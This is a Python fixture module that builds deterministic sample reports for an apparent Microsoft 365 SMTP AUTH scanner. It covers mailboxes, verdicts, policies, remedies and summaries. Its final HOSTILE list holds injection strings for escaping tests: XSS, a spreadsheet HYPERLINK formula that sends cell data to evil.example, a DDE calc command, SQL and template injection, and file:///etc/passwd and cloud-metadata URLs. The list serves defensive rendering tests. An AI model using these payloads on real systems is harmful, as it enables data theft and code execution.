"""Sample reports for tests, screenshots and benchmarks: deterministic, with every outcome, flag and kind."""

import random
from dataclasses import dataclass

import msgspec

from scanner.model.text import NOTHING, quote, say
from scanner.report.contract import (
    SCHEMA,
    AnnouncementPart,
    BurnPart,
    ChangePart,
    CodePart,
    ControlPart,
    FindingPart,
    FlagWord,
    ForecastPart,
    GatePart,
    GateWord,
    HistoryPart,
    MailboxPart,
    MigrationPart,
    MonthPart,
    OutcomeWord,
    PolicyPart,
    ReadinessPart,
    RemedyPart,
    ReplyPart,
    Report,
    RequestsPart,
    RunPart,
    SectionPart,
    SmtpAuthPart,
    SummaryPart,
    TenantPart,
    TenantPosturePart,
    UsePart,
    VerdictPart,
    VerdictsPart,
    WaiverPart,
)

GIVEN = (
    "Anna", "Олена", "Björn", "李", "Marta", "Tomáš", "Юрій", "Zoë", "Piotr", "Ahmed", "Ingrid", "Νίκος", "Sofia",
    "Lukas", "Марія", "Chiara", "דניאל", "Emma", "Noah", "Kenji", "Andrii", "Hanna", "Louis", "Freya", "Milan",
    "Катерина", "Oskar", "Ida", "Rafael", "Greta",
)  # fmt: skip
FAMILY = (
    "Kowalska", "Шевченко", "Lindström", "小龍", "García", "Novák", "Бондаренко", "O’Neill", "Wiśniewski", "al-Sayed",
    "Bergman", "Παπαδόπουλος", "Rossi", "Weber", "Коваленко", "Fischer", "לוי", "Jansen", "Dubois", "Tanaka", "Moreau",
    "Hansen", "Melnyk", "Schneider", "Petrović", "Ткаченко", "Larsen", "Virtanen", "Costa", "Baumgartner",
)  # fmt: skip
SHARED = (
    "Accounts payable",
    "Info",
    "Scan to mail, floor 3",
    "Warehouse",
    "Бухгалтерія",
    "Support",
    "Monitoring alerts",
)
ROOMS = ("Meeting room Dnipro", "Meeting room Oslo", "Board room", "Projector 2")

AUTH_SENTENCE = "Authentication unsuccessful, {}"
REPLIES = {
    "smtp_auth_switch": "SmtpClientAuthentication is disabled for the Tenant. Visit https://aka.ms/smtp_auth_disabled "
    "for more information.",
    "mailbox_switch": "SmtpClientAuthentication is disabled for the Mailbox. Visit https://aka.ms/smtp_auth_disabled "
    "for more information.",
    "security_defaults": "user is locked by your organization's security defaults policy. Contact your administrator.",
    "conditional_access": "the request did not meet the criteria to be authenticated successfully. Contact your "
    "administrator.",
    "authentication_policy": "basic authentication is disabled.",
    "account": "account has an issue. Contact your administrator.",
}
BECAUSE = {
    "smtp_auth_switch": "The mailbox follows the tenant, and the tenant has SMTP AUTH off.",
    "mailbox_switch": "SMTP AUTH is off for this mailbox itself; the tenant's value does not matter.",
    "conditional_access": "The policy “Block legacy authentication” stops clients without modern authentication.",
    "authentication_policy": "The authentication policy “Block Basic” does not allow Basic for SMTP.",
    "account": "Sign-in is blocked for this account.",
}
ORDER = ("authentication_policy", "smtp_auth_switch", "account", "security_defaults", "conditional_access")
SETTINGS = {
    "authentication_policy": ("authentication-policies", "AllowBasicAuthSmtp"),
    "smtp_auth_switch": ("cas-mailboxes", "SmtpClientAuthenticationDisabled"),
    "account": ("users", "accountEnabled"),
    "security_defaults": ("security-defaults", "isEnabled"),
    "conditional_access": ("conditional-access-policies", "grantControls.builtInControls"),
}
REMEDIES = {
    "smtp_auth_switch": (
        "Turn SMTP AUTH on for this mailbox only, and leave it off for the tenant. Allow up to an hour.",
        "Set-CASMailbox -Identity {address} -SmtpClientAuthenticationDisabled $false",
        "Microsoft 365 admin center > Users > Active users > (user) > Mail > Manage email apps > Authenticated SMTP",
        "Set-CASMailbox -Identity {address} -SmtpClientAuthenticationDisabled $null",
    ),
    "conditional_access": (
        (
            "Move the sender to OAuth. If that is impossible for now, exclude this one account from “Block legacy "
            "authentication” and limit it to the sender's address."
        ),
        "",
        "Microsoft Entra admin center > Conditional Access > Policies > Block legacy authentication > Users",
        "Remove the exclusion.",
    ),
    "authentication_policy": (
        "Assign a policy that allows Basic for SMTP to this account only. It takes effect within 24 hours.",
        "Set-User -Identity {address} -AuthenticationPolicy 'Allow SMTP Basic'",
        "",
        "Set-User -Identity {address} -AuthenticationPolicy $null",
    ),
    "account": (
        "Unblock sign-in if the account is meant to be used; keep it blocked for shared mailboxes and send with OAuth.",
        "Update-MgUser -UserId {address} -AccountEnabled:$true",
        "Microsoft Entra admin center > Users > (user) > Edit properties > Account enabled",
        "Update-MgUser -UserId {address} -AccountEnabled:$false",
    ),
}


@dataclass(frozen=True, slots=True, kw_only=True)
class Case:
    """What a sample mailbox is like: outcome of Basic, flag, closed gates and what else varies."""

    outcome: OutcomeWord
    flag: FlagWord
    closed: tuple[str, ...] = ()
    depends_on: tuple[str, ...] = ()
    missing: tuple[str, ...] = ()
    switched_off_itself: bool = False
    oauth: OutcomeWord = "accepted"


CASES = (
    Case(outcome="refused", flag="would_fail", closed=("smtp_auth_switch",), oauth="refused"),
    Case(outcome="refused", flag="would_fail", closed=("smtp_auth_switch", "conditional_access"), oauth="refused"),
    Case(outcome="accepted", flag="exposed"),
    Case(outcome="refused", flag="failing", closed=("conditional_access",)),
    Case(outcome="accepted", flag="will_fail"),
    Case(outcome="depends", flag="would_fail", depends_on=("location",)),
    Case(outcome="unknown", flag="unknown", missing=("groups",)),
    Case(outcome="refused", flag="in_order", closed=("account",)),
    Case(outcome="refused", flag="would_fail", closed=("smtp_auth_switch",), switched_off_itself=True, oauth="refused"),
    Case(outcome="refused", flag="would_fail", closed=("authentication_policy", "smtp_auth_switch", "account")),
    Case(outcome="accepted", flag="in_order"),
    Case(outcome="unknown", flag="unknown", missing=("cas-mailboxes", "users"), oauth="unknown"),
)
WEIGHTS = (30, 18, 12, 3, 4, 6, 5, 8, 6, 4, 10, 2)


def make_reply(cause: str) -> ReplyPart:
    """Makes the reply of a cause."""
    sentence = AUTH_SENTENCE.format(REPLIES[cause])
    return ReplyPart(
        code="535", enhanced="5.7.139", text=sentence, stage="AUTH", then=CodePart(code="530", enhanced="5.7.57")
    )


def make_gates(case: Case) -> list[GatePart]:
    """Makes the answers of all gates."""
    return [_make_gate(gate, case) for gate in ORDER]


def _make_gate(gate: str, case: Case) -> GatePart:
    section, path = SETTINGS[gate]
    state: GateWord = "closed" if gate in case.closed else "open"
    if gate == "conditional_access" and case.outcome in {"depends", "unknown"}:
        state = "depends" if case.outcome == "depends" else "unknown"
    cause = "mailbox_switch" if gate == "smtp_auth_switch" and case.switched_off_itself else gate
    sentences = {
        "open": "Nothing here stops it.",
        "closed": BECAUSE.get(cause, ""),
        "depends": "The policy “Only from our offices” stops it from addresses outside the named locations.",
        "unknown": "A policy refers to a group whose members could not be read.",
    }
    evidence = [FindingPart(section=section, path=path, value="True" if state == "closed" else "null")]
    return GatePart(gate=gate, state=state, because=quote(sentences[state]), evidence=evidence)


def make_verdict(case: Case, outcome: OutcomeWord) -> VerdictPart:
    """Makes a verdict; what closes Basic also explains OAuth where that is refused."""
    refused = outcome == "refused"
    cause = "mailbox_switch" if case.switched_off_itself else next(iter(case.closed), "conditional_access")
    depends = outcome == "depends"
    return VerdictPart(
        outcome=outcome,
        reply=make_reply(cause) if refused or depends else None,
        other_replies=[make_reply("security_defaults")] if depends else [],
        decided_by=case.closed[0] if refused else "conditional_access" if outcome in {"depends", "unknown"} else None,
        closed=list(case.closed) if refused else [],
        depends_on=list(case.depends_on) if depends else [],
        missing=list(case.missing) if outcome == "unknown" else [],
        confidence="medium" if len(case.closed) > 1 else "low" if outcome == "unknown" else "high",
        gates=make_gates(case),
        forecast=ForecastPart(outcome="refused", because=quote("“MFA for everyone (pilot)” would ask for MFA."))
        if outcome == "accepted" and case.flag == "exposed"
        else None,
    )


def make_mailbox(number: int, case: Case, name: str, kind: str, domain: str = "contoso.example") -> MailboxPart:
    """Makes a mailbox."""
    spread = random.Random(number)  # noqa: S311
    identity = f"{spread.getrandbits(32):08x}-{spread.getrandbits(16):04x}-4000-8000-{number:012x}"
    local = f"{'user' if kind == 'user' else kind}.{spread.getrandbits(20):05x}{number}"
    address = f"{local}@{domain}"
    used = case.flag in {"failing", "will_fail"} or (case.flag == "in_order" and case.outcome == "accepted")
    return MailboxPart(
        id=identity,
        address=address,
        display_name=name,
        kind=kind,
        smtp_auth=SmtpAuthPart(
            mailbox="disabled" if case.switched_off_itself else "inherit" if case.closed else "enabled",
            effective="disabled" if "smtp_auth_switch" in case.closed else "enabled",
            source="mailbox" if case.switched_off_itself or not case.closed else "tenant",
        ),
        verdicts=VerdictsPart(
            basic=make_verdict(case, case.outcome),
            oauth_delegated=make_verdict(case, case.oauth),
            oauth_app=make_verdict(case, case.oauth),
        ),
        use=UsePart(
            basic=140 if used else 0,
            oauth=0,
            last_seen="2026-11-20T06:31:00Z" if used else None,
            window_days=30,
            source="sign-ins",
        ),
        flag=case.flag,
        likelihood=("likely" if number % 3 == 0 else "unlikely") if case.flag == "would_fail" else None,
        waiver=WaiverPart(reason="Scanner is replaced in spring", owner="it@contoso.example", expires="2027-03-31")
        if case.flag == "exposed" and number % 7 == 0
        else None,
        remedies=[make_remedy(gate, address) for gate in case.closed if gate in REMEDIES],
        migration=MigrationPart(route="oauth_delegated", text=quote("OAuth works today.")),
        next_gate=case.closed[1] if len(case.closed) > 1 else None,
    )


def make_remedy(gate: str, address: str) -> RemedyPart:
    """Makes the remedy of a gate for one mailbox."""
    text, command, portal, undo = REMEDIES[gate]
    return RemedyPart(
        gate=gate,
        text=quote(text),
        command=command.replace("{address}", address),
        portal=portal,
        undo=quote(undo.replace("{address}", address)),
    )


def make_mailboxes(count: int, seed: int = 7) -> list[MailboxPart]:
    """Makes mailboxes of all kinds; the first ones show every case once."""
    spread = random.Random(seed)  # noqa: S311
    cases = [*CASES, *spread.choices(CASES, WEIGHTS, k=max(count - len(CASES), 0))][:count]
    return [_make_numbered(number, case, random.Random(seed * 1_000_003 + number)) for number, case in enumerate(cases)]  # noqa: S311


def _make_numbered(number: int, case: Case, spread: random.Random) -> MailboxPart:
    kind = spread.choices(("user", "shared", "room", "equipment"), (80, 14, 4, 2))[0]
    name = {
        "user": f"{spread.choice(GIVEN)} {spread.choice(FAMILY)}",
        "shared": spread.choice(SHARED),
    }.get(kind, spread.choice(ROOMS))
    mailbox = make_mailbox(number, case, name, kind)
    if number % 29 == 28:
        return msgspec.structs.replace(mailbox, set_aside=spread.choice(("inactive", "soft_deleted", "on_premises")))
    return mailbox


def summarise(mailboxes: list[MailboxPart]) -> SummaryPart:
    """Counts mailboxes as the builder of reports does."""
    judged = [mailbox for mailbox in mailboxes if mailbox.set_aside != "on_premises"]
    known = sum(mailbox.verdicts.basic.outcome != "unknown" for mailbox in judged)
    replies = [mailbox.verdicts.basic.reply for mailbox in mailboxes if mailbox.verdicts.basic.outcome == "refused"]
    methods = ("basic", "oauth_delegated", "oauth_app")
    return SummaryPart(
        mailboxes=len(mailboxes),
        coverage=known / len(judged) if judged else 0.0,
        by_flag=_count([mailbox.flag for mailbox in mailboxes]),
        by_reply=_count([f"{reply.code} {reply.enhanced} {reply.text}" for reply in replies if reply]),
        by_outcome={
            method: _count([getattr(mailbox.verdicts, method).outcome for mailbox in mailboxes]) for method in methods
        },
        by_gate=_count(
            [mailbox.verdicts.basic.decided_by or "" for mailbox in judged if mailbox.verdicts.basic.closed]
        ),
        by_kind=_count([mailbox.kind for mailbox in mailboxes]),
        forecast=_count(
            [mailbox.verdicts.basic.forecast.outcome for mailbox in mailboxes if mailbox.verdicts.basic.forecast]
        ),
    )


def _count(values: list[str]) -> dict[str, int]:
    return {value: values.count(value) for value in dict.fromkeys(values)}


POLICIES = [
    PolicyPart(id="p1", name="Block legacy authentication", state="enabled", effect="stops", mailboxes=27,
               because=quote("Blocks clients of the kind “other” for all users but one group.")),
    PolicyPart(id="p2", name="Only from our offices", state="enabled", effect="stops_sometimes", mailboxes=6,
               because=quote("Blocks from outside the named locations “HQ” and “Plant”.")),
    PolicyPart(id="p3", name="MFA for everyone (pilot)", state="enabledForReportingButNotEnforced", effect="forecast",
               mailboxes=55, because=quote("Would ask for MFA, which a Basic client can't do, if it were enforced.")),
    PolicyPart(id="p4", name="Compliant device for SharePoint", state="enabled", effect="none", mailboxes=0,
               because=quote("Aimed at another application.")),
    PolicyPart(id="p5", name="Привілейовані ролі", state="enabled", effect="unknown", mailboxes=None,
               because=quote("It refers to a group whose members could not be read.")),
]  # fmt: skip
EVIDENCE = [
    SectionPart(section=name, state="complete", count=count, expected=count, reason=NOTHING, permission="",
                collected_at="2026-11-23T08:00:12Z")
    for name, count in (("transport-config", 1), ("organization-config", 1), ("authentication-policies", 3),
                        ("mailboxes", 60), ("cas-mailboxes", 60), ("users", 84), ("security-defaults", 1),
                        ("conditional-access-policies", 5), ("named-locations", 2), ("role-assignments", 12))
]  # fmt: skip
GAPS = [
    SectionPart(section="groups", state="partial", count=11, expected=12, permission="GroupMember.Read.All",
                reason=quote("The membership of 1 group is hidden from this sign-in (403)."),
                collected_at="2026-11-23T08:00:19Z"),
    SectionPart(section="risky-users", state="missing", count=0, expected=None, permission="IdentityRiskyUser.Read.All",
                reason=quote("The tenant has no licence for risk reports (403)."), collected_at=None),
]  # fmt: skip


def make_report(count: int = 60, *, complete: bool = True, mailboxes: list[MailboxPart] | None = None) -> Report:
    """Makes a report.

    Args:
        count: Mailboxes to make.
        complete: False leaves two sections of evidence partial and missing.
        mailboxes: Mailboxes to use instead of made ones.

    Returns:
        The same report for the same arguments.
    """
    rows = make_mailboxes(count) if mailboxes is None else mailboxes
    return Report(
        schema=SCHEMA,
        tenant=TenantPart(
            id="8f2d9c1e-5b0a-4c57-9d35-0f6f2f7b1a11",
            domain="contoso.example",
            name="Contoso Логістика",
            cloud="public",
        ),
        run=RunPart(
            id="20261123-080000-contoso", started="2026-11-23T08:00:00Z", finished="2026-11-23T08:00:41Z",
            as_of="2026-11-23", complete=complete, tool_version="0.1.0",
            evidence=EVIDENCE if complete else [*EVIDENCE, *GAPS],
            source_ips=["203.0.113.7"],
        ),
        tenant_posture=TenantPosturePart(
            smtp_auth_disabled=True, security_defaults=False, default_authentication_policy="",
            conditional_access=POLICIES,
        ),
        summary=summarise(rows),
        mailboxes=rows,
    )  # fmt: skip


def make_full_report(count: int = 60) -> Report:
    """Makes a report with every part: changes, months, announcements, readiness, controls, requests, waivers."""
    report = make_report(count, complete=False)
    names = [mailbox.id for mailbox in report.mailboxes if mailbox.flag == "will_fail"]
    months = [
        MonthPart(month=month, run_id=f"run-{month}", mailboxes=count, coverage=0.9, senders=14 - 2 * place,
                  by_flag={"failing": 6 - place, "will_fail": 9 - place, "exposed": 4 + 2 * place, "would_fail": 30})
        for place, month in enumerate(("2026-07", "2026-08", "2026-09", "2026-10", "2026-11"))
    ]  # fmt: skip
    changes = [
        ChangePart(kind="sender_stopped", subject="m1", name=report.mailboxes[3].address, before="140", after="",
                   because=say("Stopped by {policies}.", policies="Block legacy authentication")),
        ChangePart(kind="verdict", subject="m2", name=report.mailboxes[0].address, before="accepted", after="refused",
                   because=say("The policy {policy} was turned on.", policy="Block legacy authentication")),
        ChangePart(kind="policy", subject="p1", name="Block legacy authentication", before="disabled", after="enabled"),
        ChangePart(kind="mailbox_new", subject="m3", name=report.mailboxes[9].address, before="", after="user"),
    ]  # fmt: skip
    announcements = [
        AnnouncementPart(key="default_off", title=say("Basic for SMTP AUTH is off by default"), date="2026-12-31",
                         certain=True, changed=22, breaks=names, unknown=4,
                         because=say("How Microsoft does it is not published.")),
        AnnouncementPart(key="security_defaults_on", title=say("Security Defaults are turned on"), date=None,
                         certain=False, changed=31, breaks=names, unknown=4),
    ]  # fmt: skip
    controls = [
        ControlPart(framework="CIS Microsoft 365 Foundations Benchmark", version="v7.0.0", id="6.5.4", state=state,
                    title=quote("Ensure SMTP AUTH is disabled"), because=say("SMTP AUTH is on for the organization."),
                    mapped_by=say("smtp-posture, from the audit procedure of the recommendation"))
        for state in ("met", "not_met", "unknown")
    ]  # fmt: skip
    return msgspec.structs.replace(
        report,
        history=HistoryPart(
            previous="run-2026-10", previous_finished="2026-10-26T08:00:41Z", changes=changes, months=months
        ),
        announcements=announcements,
        readiness=ReadinessPart(
            deadline="2026-12-31", senders=14, done=4, in_work=3, blocked=2, unknown=1,
            burn_down=[BurnPart(date=f"2026-{month:02}-26", open=14 - 2 * place)
                       for place, month in enumerate((7, 8, 9, 10, 11))],
        ),
        controls=controls,
        requests=RequestsPart(requests=1834, writes=0, received_bytes=23_400_000, waited_seconds=12.0),
    )  # fmt: skip


HOSTILE = (
    "</script><script>document.title='owned'</script>",
    "<img src=x onerror=\"document.title='owned'\">",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "{{ 7*7 }}{% raw %}",
    "\u202egnp.exe\u202c reversed",
    "line one\nline two\r\nline three",
    "👩🏽‍🚒 fire 🔥 brigade",
    "A" * 5000,
    "\x00\x07\x1b[31mbell\u2028sep\u2029",
    "http://169.254.169.254/latest/meta-data",
    "file:///etc/passwd",
    "url(file:///etc/passwd)",
    "'; DROP TABLE mailboxes; --",
    "<!-- <script>",
    "&lt;already&gt; &amp;",
    "Z̸̢̛͓a̷̧̛l̵̨̛g̷̢̛o̸̧̕",
    "שלום עולם",
    "",
)  # fmt: skip


def make_hostile_report() -> Report:
    """Makes a report with hostile strings in every text that somebody in a tenant can set."""
    rows = [
        msgspec.structs.replace(
            make_mailbox(number, CASES[number % len(CASES)], text, "shared"),
            address=f"{text}@contoso.example" if number % 2 else "",
            kind="user",
        )
        for number, text in enumerate(HOSTILE)
    ]
    report = make_report(mailboxes=rows, complete=False)
    policies = [
        msgspec.structs.replace(POLICIES[0], id=str(number), name=text, because=quote(text))
        for number, text in enumerate(HOSTILE)
    ]
    return msgspec.structs.replace(
        report,
        tenant=msgspec.structs.replace(report.tenant, name=HOSTILE[0] + HOSTILE[9], domain=HOSTILE[1]),
        tenant_posture=msgspec.structs.replace(
            report.tenant_posture, conditional_access=policies, default_authentication_policy=HOSTILE[1]
        ),
        run=msgspec.structs.replace(report.run, notes=[quote(text) for text in HOSTILE]),
    )
